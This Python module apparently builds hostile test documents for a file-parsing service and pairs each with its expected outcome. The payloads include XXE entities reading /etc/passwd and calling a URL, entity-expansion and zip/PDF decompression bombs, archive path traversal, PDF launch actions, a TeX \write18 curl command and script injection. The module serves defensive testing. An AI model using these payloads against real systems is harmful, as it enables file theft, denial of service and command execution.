"""Documents that want to harm, made on the spot, and how each may end."""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from compound import compound

#: a Record was made; every other ending is the reason of a failed or skipped Document
DONE = "done"


@dataclass(frozen=True)
class Attack:
    """A document, and the endings that are right for it."""

    name: str
    data: bytes
    endings: frozenset[str]


def attack(name: str, data: bytes, *endings: str) -> Attack:
    """An Attack, in one line."""
    return Attack(name, data, frozenset(endings))


def attacks(url: str, local: str) -> Iterator[Attack]:
    """All of them; ``url`` and ``local`` (a file:// URL) are what they try to read."""
    yield from entities(url, local)
    yield from references(url, local)
    yield from bombs()
    yield from large()
    yield from deep()
    yield from lying()
    yield from broken()


# ── honest documents, as small as their readers take them ────────────────────────────────────

Members = Mapping[str, str | bytes]
Made = dict[str, str | bytes]

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"


def zipped(members: Members) -> bytes:
    """A ZIP of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _office(main: str, family: str, xml: str, more: Members | None = None) -> Made:
    media = "application/vnd.openxmlformats-officedocument."
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{media}{family}.main+xml"/></Types>',
        "_rels/.rels": _relations(("officeDocument", main)),
        main: xml,
        **(more or {}),
    }


def _relations(*targets: tuple[str, str]) -> str:
    each = "".join(
        f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if "://" in target else "/>")
        for number, (kind, target) in enumerate(targets)
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{each}</Relationships>'


def _docx(text: str, dtd: str = "", *links: tuple[str, str]) -> Made:
    xml = f'{dtd}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
    more = {"word/_rels/document.xml.rels": _relations(*links)} if links else None
    family = "wordprocessingml.document"
    return _office("word/document.xml", family, xml + "</w:body></w:document>", more)


def _pptx(text: str, dtd: str = "", *links: tuple[str, str]) -> Made:
    slide = (
        f'{dtd}<p:sld xmlns:p="{_SLIDES}" xmlns:a="{_DRAWING}"><p:cSld><p:spTree><p:sp><p:txBody>'
        f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    deck = (
        f'<p:presentation xmlns:p="{_SLIDES}" xmlns:r="{_OFFICE}"><p:sldIdLst>'
        '<p:sldId id="256" r:id="r0"/></p:sldIdLst></p:presentation>'
    )
    more: Made = {
        "ppt/slides/slide1.xml": slide,
        "ppt/_rels/presentation.xml.rels": _relations(("slide", "slides/slide1.xml"), *links),
    }
    made = _office("ppt/presentation.xml", "presentationml.presentation", deck, more)
    types = str(made["[Content_Types].xml"]).replace(
        "</Types>",
        '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.presentationml.slide+xml"/></Types>',
    )
    return made | {"[Content_Types].xml": types}


def _xlsx(text: str, dtd: str = "", *links: tuple[str, str]) -> Made:
    strings = f'{dtd}<sst xmlns="{_SHEETS}"><si><t>{text}</t></si></sst>'
    return _workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings, *links)


def _workbook(rows: str, strings: str = "", *links: tuple[str, str]) -> Made:
    sheets = '<sheets><sheet name="S" sheetId="1" r:id="r0"/></sheets>'
    more: Made = {
        "xl/_rels/workbook.xml.rels": _relations(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"), *links
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEETS}"><dimension ref="A1:XFD1048576"/>'
        f"<sheetData>{rows}</sheetData></worksheet>",
        "xl/sharedStrings.xml": strings or f'<sst xmlns="{_SHEETS}"/>',
    }
    xml = f'<workbook xmlns="{_SHEETS}" xmlns:r="{_OFFICE}">{sheets}</workbook>'
    return _office("xl/workbook.xml", "spreadsheetml.sheet", xml, more)


def _open_document(family: str, media: str, body: str, dtd: str = "") -> Made:
    kind = f"application/vnd.oasis.opendocument.{media}"
    spaces = " ".join(
        f'xmlns:{name}="{space}"'
        for name, space in (
            *((each, f"{_ODF}{each}:1.0") for each in ("office", "text", "table", "drawing")),
            ("xlink", "http://www.w3.org/1999/xlink"),
        )
    )
    return {
        "mimetype": kind,
        "META-INF/manifest.xml": f'<m:manifest xmlns:m="{_ODF}manifest:1.0"><m:file-entry'
        f' m:full-path="/" m:media-type="{kind}"/></m:manifest>',
        "content.xml": f"{dtd}<office:document-content {spaces}><office:body><office:{family}>"
        f"{body}</office:{family}></office:body></office:document-content>",
    }


def _odt(text: str, dtd: str = "") -> Made:
    return _open_document("text", "text", f"<text:p>{text}</text:p>", dtd)


def _ods(text: str, dtd: str = "", row: str = "", cell: str = "") -> Made:
    value = f'<table:table-cell office:value-type="string" {cell}><text:p>{text}</text:p>'
    rows = f"<table:table-row {row}>{value}</table:table-cell></table:table-row>"
    table = f'<table:table table:name="S">{rows}</table:table>'
    return _open_document("spreadsheet", "spreadsheet", table, dtd)


def _epub(text: str, dtd: str = "") -> Made:
    return {
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles>'
        "</container>",
        "b.opf": f'{dtd}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item'
        ' id="a" href="a.xhtml"/></manifest><spine><itemref idref="a"/></spine></package>',
        "a.xhtml": f"{dtd}<html><body><p>{text}</p></body></html>",
    }


def _xml(text: str, dtd: str = "") -> bytes:
    return f"{dtd}<a><b>{text}</b></a>".encode()


def _svg(text: str, dtd: str = "") -> bytes:
    return f'{dtd}<svg xmlns="http://www.w3.org/2000/svg"><text>{text}</text></svg>'.encode()


def _html(text: str, dtd: str = "") -> bytes:
    return f"{dtd}<html><title>T</title><body><p>{text}</p></body></html>".encode()


def _fb2(text: str, dtd: str = "") -> bytes:
    space = "http://www.gribuser.ru/xml/fictionbook/2.0"
    return f'{dtd}<FictionBook xmlns="{space}"><body><p>{text}</p></body></FictionBook>'.encode()


def _fodt(text: str, dtd: str = "") -> bytes:
    xml = str(_odt(text, dtd)["content.xml"])
    mime = 'office:document office:mimetype="application/vnd.oasis.opendocument.text"'
    return xml.replace("office:document-content", mime, 1).replace("-content>", ">").encode()


def _word_2003(text: str, dtd: str = "") -> bytes:
    space = "http://schemas.microsoft.com/office/word/2003/wordml"
    head = f'<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="{space}">'
    body = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:wordDocument>"
    return f'<?xml version="1.0"?>{dtd}{head}{body}'.encode()


def _pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of objects 1, 2, 3 ...; the first is the catalogue."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"trailer\n<</Size %d %s>>\n" % (len(objects) + 1, trailer)
    return bytes(data) + b"startxref\n%d\n%%%%EOF\n" % start


_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SHOWN = b"/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
_PAGE = b"<</Type/Page/Parent 2 0 R" + _SHOWN + b">>"


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


def _pdf_saying(text: bytes, more: bytes = b"", trailer: bytes = b"/Root 1 0 R") -> bytes:
    shown = b"BT /F 12 Tf 9 9 Td (" + text + b") Tj ET"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    catalog = _CATALOG[:-2] + more + b">>"
    return _pdf(catalog, pages, _PAGE, _stream(shown), _FONT, trailer=trailer)


def _png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(64))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _tiff(*entries: tuple[int, int, int], following: int = 0) -> bytes:
    """One directory at 8 of (tag, type, value); ``following``: where the next one lies."""
    listed = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + listed + struct.pack("<I", following)


def _bmp(width: int, height: int) -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 64, 0, 0, 54) + header + bytes(64)


def _gif(width: int, height: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    return head + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02L\x01\x00;"


def _record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def _number(row: int, column: int) -> bytes:
    return _record(0x203, struct.pack("<HHHd", row, column, 0, 1.5))


def _dimensions(top: int, bottom: int, left: int, right: int) -> bytes:
    return _record(0x200, struct.pack("<IIHHH", top, bottom, left, right, 0))


def _xls(*records: bytes) -> bytes:
    """An Excel workbook of one sheet, with these records before a number in its first cell."""
    begin, end = 0x809, _record(0x0A, b"")
    book, sheet = (_record(begin, struct.pack("<HHQ", 0x600, kind, 0)) for kind in (5, 0x10))
    place = len(book) + 13 + len(end)
    named = _record(0x85, struct.pack("<IH", place, 0) + b"\1\0S")
    return compound(
        "Workbook", book + named + end + sheet + b"".join(records) + _number(0, 0) + end
    )


def _eml(body: str, headers: str = "") -> bytes:
    return f"From: a@example.org\nSubject: S\n{headers}\n{body}".encode()


def honest(text: str = "innocent") -> dict[str, bytes]:
    """One of each kind that wants nothing: what stands beside the others."""
    packages = {"docx": _docx, "pptx": _pptx, "xlsx": _xlsx, "odt": _odt, "ods": _ods}
    return {
        **{f"a.{kind}": zipped(make(text)) for kind, make in packages.items()},
        "a.xls": _xls(),
        "a.epub": zipped(_epub(text)),
        "a.xml": _xml(text),
        "a.svg": _svg(text),
        "a.html": _html(text),
        "a.fb2": _fb2(text),
        "a.fodt": _fodt(text),
        "a.pdf": _pdf_saying(text.encode()),
        "a.eml": _eml(text),
        "a.mbox": b"From a@example.org Sat Nov 28 10:00:00 2026\n" + _eml(text) + b"\n",
        "a.rtf": b"{\\rtf1 %s\\par}" % text.encode(),
        "a.ipynb": b'{"cells": [{"cell_type": "code", "source": "%s"}], "nbformat": 4}'
        % text.encode(),
        "a.csv": f"a,b\n{text},2\n".encode(),
        "a.json": f'{{"a": "{text}"}}'.encode(),
        "a.txt": f"{text}\n".encode(),
        "a.md": f"# {text}\n".encode(),
        "a.srt": f"1\n00:00:01,000 --> 00:00:02,000\n{text}\n".encode(),
        "a.ics": f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:{text}\nEND:VEVENT\n".encode(),
        "a.tex": b"\\documentclass{article}\n\\title{%s}\n" % text.encode(),
        "a.zip": zipped({text: b"x"}),
        "a.tar": tarred({text: b"x"}),
        "a.txt.gz": gzipped(text.encode()),
        "a.png": _png(3, 2),
        "a.bmp": _bmp(3, 2),
        "a.gif": _gif(3, 2),
        "a.tif": _tiff((256, 4, 3), (257, 4, 2), (259, 3, 1), (262, 3, 1), (273, 4, 8)),
    }


def tarred(members: Mapping[str, bytes]) -> bytes:
    """A tar of these members."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def gzipped(data: bytes) -> bytes:
    """The same bytes at every time: without a date."""
    deflating = zlib.compressobj(9, zlib.DEFLATED, 31)
    return deflating.compress(data) + deflating.flush()


# ── what does not become larger by being read ────────────────────────────────────────────────

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol" * 10}">' for n in range(10))
_TEXTS: Mapping[str, Callable[[str, str], bytes]] = {
    "xml": _xml, "svg": _svg, "html": _html, "fb2": _fb2, "fodt": _fodt, "word.xml": _word_2003
}  # fmt: skip
_PACKAGES: Mapping[str, Callable[[str, str], Members]] = {
    "docx": _docx, "pptx": _pptx, "xlsx": _xlsx, "odt": _odt, "ods": _ods, "epub": _epub
}  # fmt: skip


def entities(url: str, local: str) -> Iterator[Attack]:
    """P04: entities that grow, that read a file, that call a server; XInclude, stylesheets."""
    external = (
        f'<?xml-stylesheet href="{url}" type="text/xsl"?><!DOCTYPE x SYSTEM "{url}" ['
        f'<!ENTITY f SYSTEM "{local}"><!ENTITY e SYSTEM "file:///etc/passwd">'
        f'<!ENTITY u SYSTEM "{url}"><!ENTITY % p SYSTEM "{url}"> %p;]>'
    )
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{local}" parse="text"/>'
    tricks = {
        "laughs": (f"<!DOCTYPE x [{_LAUGHS}]>", "x &l9; y"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"q" * 4000}">]>', "&q;" * 50_000),
        "external": (external, "x &f;&e;&u; y"),
        "include": ("", f"x {include} y"),
    }
    for trick, (dtd, text) in tricks.items():
        for suffix, text_of in _TEXTS.items():
            yield attack(f"{trick}.{suffix}", text_of(text, dtd), DONE, "corrupt")
        for suffix, package in _PACKAGES.items():
            yield attack(f"{trick}.{suffix}", zipped(package(text, dtd)), DONE, "corrupt")


def references(url: str, local: str) -> Iterator[Attack]:
    """P06, P08, P10: links, images, frames, templates, scripts that a viewer would follow."""
    for suffix, make in {"docx": _docx, "pptx": _pptx, "xlsx": _xlsx}.items():
        links = (("attachedTemplate", url), ("image", local), ("oleObject", url))
        yield attack(f"links.{suffix}", zipped(make("innocent", "", *links)), DONE)
    tags = "".join(
        f"<img src='{each}'><iframe src='{each}'></iframe><object data='{each}'></object>"
        f"<link rel=stylesheet href='{each}'><script src='{each}'></script><embed src='{each}'>"
        f"<meta http-equiv=refresh content='0;url={each}'><base href='{each}'>"
        for each in (url, local)
    )
    yield attack("links.html", _html(tags), DONE)
    svg = f"<image href='{local}'/><use href='{url}#x'/><script href='{url}'/><text>x</text>"
    yield attack("links.svg", _svg(f"</text>{svg}<text>"), DONE)
    image = f'<drawing:image xlink:href="{local}"/><drawing:image xlink:href="{url}"/>'
    yield attack("links.odt", zipped(_odt(image)), DONE)
    book = _epub("innocent")
    items = f'<item id="u" href="{url}"/><item id="f" href="{local}"/></manifest>'
    spine = '<spine><itemref idref="u"/><itemref idref="f"/>'
    opf = str(book["b.opf"]).replace("</manifest>", items).replace("<spine>", spine)
    yield attack("links.epub", zipped({**book, "b.opf": opf}), DONE, "corrupt")
    include = f'{{\\field{{\\*\\fldinst INCLUDETEXT "{local}"}}}}{{\\*\\template {url}}}'
    yield attack("links.rtf", f"{{\\rtf1 {include} innocent}}".encode(), DONE)
    tex = f"\\documentclass{{article}}\\input{{{local}}}\\write18{{curl {url}}}"
    yield attack("links.tex", tex.encode(), DONE)
    body = f'Content-Type: message/external-body; access-type=URL; URL="{url}"\n'
    yield attack("links.eml", _eml("Content-Type: text/plain\n\n", body), DONE)
    part = "--b\nContent-Disposition: attachment; filename=../../../tmp/escaped\n\nx\n--b--\n"
    yield attack("path.eml", _eml(part, "Content-Type: multipart/mixed; boundary=b\n"), DONE)
    escaping = ("../escaped", "/tmp/escaped", "..\\escaped", "a" * 5000)
    yield attack("path.zip", zipped(dict.fromkeys(escaping, b"x")), DONE)
    yield attack("path.tar", tarred(dict.fromkeys(escaping, b"x")), DONE)
    yield attack("path.docx", zipped(_docx("innocent") | dict.fromkeys(escaping, b"x")), DONE)
    action = f"/OpenAction<</S/Launch/F({url})>>/AA<</O<</S/URI/URI({url})>>>>"
    script = f"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\('{url}'\\))>>]>>>>"
    yield attack("links.pdf", _pdf_saying(b"innocent", (action + script).encode()), DONE)


# ── what becomes larger by being read ────────────────────────────────────────────────────────


def zeros(size: int, window: int = -15, head: bytes = b"") -> bytes:
    """``head`` and ``size`` zeros, deflated in no time: one megabyte of them, again and again.

    Of a gzip (``window`` 31) the checksum is wrong; nobody should ever come to it.
    """
    deflating = zlib.compressobj(9, zlib.DEFLATED, window)
    first = deflating.compress(head) + deflating.flush(zlib.Z_FULL_FLUSH)
    megabyte = deflating.compress(bytes(1 << 20)) + deflating.flush(zlib.Z_FULL_FLUSH)
    return first + megabyte * (size >> 20) + deflating.flush()


def bomb(members: Members, name: str, size: int, stated: int | None = None) -> bytes:
    """A ZIP whose member ``name`` inflates to ``size`` zeros, whatever its directory states."""
    data = zipped(members | {name: b"@" * 64})
    deflated = zeros(size)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
        place, end = info.header_offset, archive.start_dir
        start = place + 30 + len(name)
        following = start + info.compress_size
    assert following == end, "the bomb is the last member"
    sizes = struct.pack("<III", 0, len(deflated), size if stated is None else stated)
    body = data[: place + 14] + sizes + data[place + 26 : start] + deflated
    directory = bytearray(data[end:])
    entry = directory.rindex(name.encode()) - 46
    directory[entry + 16 : entry + 28] = sizes
    closing = directory.rindex(b"PK\5\6")
    directory[closing + 16 : closing + 20] = struct.pack("<I", len(body))
    return body + bytes(directory)


def bombs() -> Iterator[Attack]:
    """P01, P02, P03, P05: a few kilobytes that inflate to more than there is."""
    yield attack("lying.docx", bomb(_docx("x"), "word/media/a.png", 600 << 20, 9), "corrupt")
    yield attack("bomb.xlsx", bomb(_xlsx("x"), "xl/media/a.png", 600 << 20), "corrupt")
    yield attack("bomb.odt", bomb(_odt("x"), "Pictures/a.png", 600 << 20), "corrupt")
    yield attack("bomb.epub", bomb(_epub("x"), "z.xhtml", 600 << 20), "corrupt")
    strings = f'<sst xmlns="{_SHEETS}"><si><t>{"long " * 4000}</t></si></sst>'
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000))
    yield attack("shared.xlsx", zipped(_workbook(rows, strings)), "memory", "output_too_large")
    inner = zipped({"0.txt": bytes(1 << 20)})
    for level in range(6):
        inner = zipped({f"{level}-{n}.zip": inner for n in range(16)})
    yield attack("nested.zip", inner, DONE)
    yield attack("nested.txt.gz.gz.gz.gz.gz", _again(gzipped, b"innocent", 5), "corrupt")
    yield attack("bomb.txt.gz", zeros(200 << 20, 31, b"text\n" * 2000), "corrupt")
    yield attack("bomb.bin.gz", zeros(200 << 20, 31), "unsupported")
    yield attack("bomb.tar.gz", zeros(100 << 20, 31, tarred({"a": b"x"})[:1024]), DONE, "corrupt")
    flate = _stream(zlib_zeros(300 << 20), b"/Filter/FlateDecode")
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    yield attack("bomb.pdf", _pdf(_CATALOG, pages, _PAGE, flate, _FONT), DONE, "memory")


def zlib_zeros(size: int) -> bytes:
    """As `zeros`, with the header of zlib."""
    return zeros(size, 15)


def _again(function: Callable[[bytes], bytes], data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = function(data)
    return data


def large() -> Iterator[Attack]:
    """P03, P07, P10, P12: much of one thing, or so it is said."""
    yield attack("huge.png", _png(100_000, 100_000), DONE)
    yield attack("huge.bmp", _bmp(2_000_000_000, 2_000_000_000), DONE, "corrupt")
    yield attack("huge.gif", _gif(65_535, 65_535), DONE)
    sizes = ((256, 4, 4_000_000_000), (257, 4, 4_000_000_000), (259, 3, 1), (262, 3, 1))
    yield attack("huge.tif", _tiff(*sizes), DONE, "corrupt")
    yield attack("line.csv", b"field," * 3_000_000, DONE)
    yield attack("field.csv", b'"' + b"x" * 10_000_000, DONE)
    yield attack("line.html", _html("word " * 2_000_000), DONE)
    yield attack("attributes.html", b"<p " + b"a=1 " * 300_000 + b">x", DONE)
    headers = "Content-Type: multipart/mixed; boundary=b\n"
    yield attack("parts.eml", _eml("--b\n\nx\n" * 10_000 + "--b--\n", headers), DONE)
    yield attack("header.eml", _eml("x", f"To: {'a@example.org, ' * 300_000}\n"), DONE)
    yield attack("headers.eml", _eml("x", "X-A: b\n" * 100_000), DONE)
    mails = b"From a@example.org Sat Nov 28 10:00:00 2026\n\nx\n\n" * 5000
    yield attack("mails.mbox", mails, DONE)
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield attack("far.xlsx", zipped(_workbook(f'<row r="1"><c r="A1"/></row>{far}')), DONE)
    places = {"column-1000001": "BDWGO1", "column": "ZZZZZZZZZ1", "row": "A4294967295"}
    for what, place in (places | {"cell": "zzz150000", "number": f"A{'9' * 5000}"}).items():
        pair = f'<row r="1"><c r="A1"><v>1</v></c><c r="{place}"><v>2</v></c></row>'
        yield attack(f"{what}.xlsx", zipped(_workbook(pair)), DONE, "corrupt")
    yield attack("corner.xls", _xls(_number(65_535, 65_535)), "corrupt")
    yield attack("room.xls", _xls(_dimensions(0, 1 << 31, 0, 65_535)), "corrupt")
    yield attack("backwards.xls", _xls(_dimensions(9, 2, 9, 1)), "corrupt")
    wide, long = 'table:number-columns-repeated="{}"', 'table:number-rows-repeated="{}"'
    everywhere = _ods("x", "", long.format(1_048_576), wide.format(16_384))
    yield attack("repeated.ods", zipped(everywhere), "corrupt", "memory")
    billions = _ods("x", "", long.format(4_000_000_000), wide.format(4_000_000_000))
    yield attack("billions.ods", zipped(billions), DONE, "corrupt", "memory")
    yield attack("marks.txt", ("a" + "\u0301" * 1_000_000).encode(), DONE)
    codes = b"\x1b]0;pwn\x07\x1b[2J\0\xe2\x80\xae</script><script>alert(1)</script>\r\xff"
    yield attack("codes.txt", b"words " * 2000 + codes, DONE)
    yield attack("cues.srt", b"1\n00:00:01,000 --> 00:00:02,000\nx\n\n" * 50_000, DONE)


def deep(depth: int = 100_000) -> Iterator[Attack]:
    """P08, P10, P13: a thing in a thing in a thing."""
    nested = "<b>" * depth + "</b>" * depth
    for suffix, text_of in _TEXTS.items():
        endings = (DONE,) if suffix == "html" else (DONE, "corrupt")
        yield attack(f"deep.{suffix}", text_of(nested, ""), *endings)
    for suffix, package in _PACKAGES.items():
        yield attack(f"deep.{suffix}", zipped(package(nested, "")), DONE, "corrupt")
    yield attack("deep.rtf", b"{\\rtf1" + b"{" * depth + b"x" + b"}" * depth + b"}", DONE)
    yield attack("open.rtf", b"{\\rtf1 x" + b"{" * depth, DONE)
    yield attack("deep.json", b"[" * depth + b"]" * depth, DONE)
    cells = b'{"nbformat": 4, "cells": ' + b"[" * depth + b"]" * depth + b"}"
    yield attack("deep.ipynb", cells, "corrupt")
    yield attack("deep.yaml", b"[" * depth, DONE)
    yield attack("deep.tex", b"\\documentclass{article}\\title" + b"{" * depth, DONE)
    forwarded = b"Content-Type: message/rfc822\n\n"
    yield attack("deep-50.eml", b"From: a\nSubject: b\n" + forwarded * 50 + b"\nx", DONE)
    yield attack("deep.eml", b"From: a\n" + forwarded * 2000 + b"\nx", DONE, "corrupt")
    parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(1000)
    )
    yield attack("deep-parts.eml", b"From: a\n" + parts + b"\nx", DONE, "corrupt")
    kids = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % n for n in range(3, 5000)]
    yield attack("deep.pdf", _pdf(_CATALOG, *kids, b"<</Type/Page>>"), DONE, "corrupt")
    arrays = b"[" * depth + b"]" * depth
    yield attack("arrays.pdf", _pdf(_CATALOG[:-2] + b"/X " + arrays + b">>", _KID), DONE, "corrupt")


_KID = b"<</Type/Pages/Kids[]/Count 0>>"


def lying() -> Iterator[Attack]:
    """P02, P05, P07, P11, P13: sizes, counts and places that are not what they say."""
    fields = ((256, 4, 3), (257, 4, 2), (259, 3, 1), (262, 3, 1), (273, 4, 8))
    yield attack("cycle.tif", _tiff(*fields, following=8), DONE)
    cycle = b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"
    yield attack("cycle.pdf", _pdf(_CATALOG, cycle), DONE, "corrupt")
    many = b"<</Type/Pages/Kids[3 0 R]/Count 10000000>>"
    shown = _stream(b"BT /F 12 Tf (innocent) Tj ET")
    yield attack("pages.pdf", _pdf(_CATALOG, many, _PAGE, shown, _FONT), DONE, "corrupt")
    previous = _pdf_saying(b"innocent", trailer=b"/Root 1 0 R/Prev 9")
    yield attack("previous.pdf", previous, DONE, "corrupt")
    start = previous.rindex(b"startxref")
    loop = previous[:start].replace(b"/Prev 9", b"/Prev %d" % previous.rindex(b"xref\n0"))
    yield attack("loop.pdf", loop + previous[start:], DONE, "corrupt")
    yield attack("size.pdf", previous.replace(b"/Size 6", b"/Size 1000000000"), DONE, "corrupt")
    locked = b"/Root 1 0 R/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O("
    locked += b"o" * 32 + b")/U(" + b"u" * 32 + b")>>"
    yield attack("locked.pdf", _pdf_saying(b"innocent", trailer=locked), "encrypted")
    strange = b"/Root 1 0 R/Encrypt<</Filter/Strange/V 99>>"
    yield attack("strange.pdf", _pdf_saying(b"innocent", trailer=strange), "encrypted", "corrupt")
    word = bytearray(zipped(_docx("innocent")))
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        for place in _places(word, mark):
            word[place + flags] |= 1
    yield attack("locked.docx", bytes(word), "encrypted")
    member = bytearray(tarred({"a": b"x"}))
    member[124:136] = b"\x80" + bytes(3) + b"\x7f" + b"\xff" * 7
    member[148:156] = b"%06o\0 " % (sum(member[:148]) + 8 * 32 + sum(member[156:512]))
    yield attack("size.tar", bytes(member), DONE, "corrupt")
    yield attack("a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + b"\xff" * 24, "unsupported")
    yield attack("a.rar", b"Rar!\x1a\x07\0" + b"\xff" * 64, "corrupt", "unsupported")
    yield attack("link.lnk", b"L\0\0\0\1\x14\2\0" + bytes(64), "unsupported")
    yield attack("bytes.rtf", b"{\\rtf1 x\\bin2147483647 y}", DONE)
    yield attack("utf-16.xml", _xml("x").decode().encode("utf-16"), DONE)
    claim = '<?xml version="1.0" encoding="utf-7"?>'
    yield attack("utf-7.xml", _xml("+ADw-", claim), DONE, "corrupt")


def _places(data: bytes | bytearray, mark: bytes) -> Iterator[int]:
    place = data.find(mark)
    while place >= 0:
        yield place
        place = data.find(mark, place + 1)


def broken() -> Iterator[Attack]:
    """P14: every kind empty, cut in half, with noise in it, and noise under its name."""
    chance = random.Random(7)
    ends = (DONE, "corrupt", "unsupported", "encrypted")
    for name, data in honest().items():
        suffix = name[1:]
        noise = chance.randbytes(3000)
        middle = len(data) // 2
        noisy = data[: middle // 2] + noise[:200] + data[middle // 2 :]
        yield attack(f"empty{suffix}", b"", "empty")
        yield attack(f"half{suffix}", data[:middle], *ends)
        yield attack(f"noisy{suffix}", noisy, *ends)
        yield attack(f"begun{suffix}", data[:16] + noise, *ends)
        yield attack(f"noise{suffix}", b"\xb5" + noise, *ends)
